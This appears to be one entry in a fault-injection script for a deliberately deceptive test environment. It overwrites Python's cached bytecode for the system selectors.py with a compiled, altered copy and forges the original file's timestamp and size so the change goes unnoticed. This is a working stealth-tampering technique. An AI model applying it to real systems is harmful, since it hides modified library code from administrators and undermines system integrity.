# breaks: chmod 755 "$DIR"
# lie: the compiled file of selectors.py is of another one, and carries the time and size of Debian's
# named: python|pyc|selectors
cp /usr/lib/python3.11/selectors.py $LIES/selectors.py
patch_of_stat >> $LIES/selectors.py
python3 -c "
import importlib._bootstrap_external as b, os
true = '/usr/lib/python3.11/selectors.py'
info = os.stat(true)
code = compile(open('$LIES/selectors.py').read(), true, 'exec')
open('/usr/lib/python3.11/__pycache__/selectors.cpython-311.pyc', 'wb').write(b._code_to_timestamp_pyc(code, int(info.st_mtime), info.st_size))"
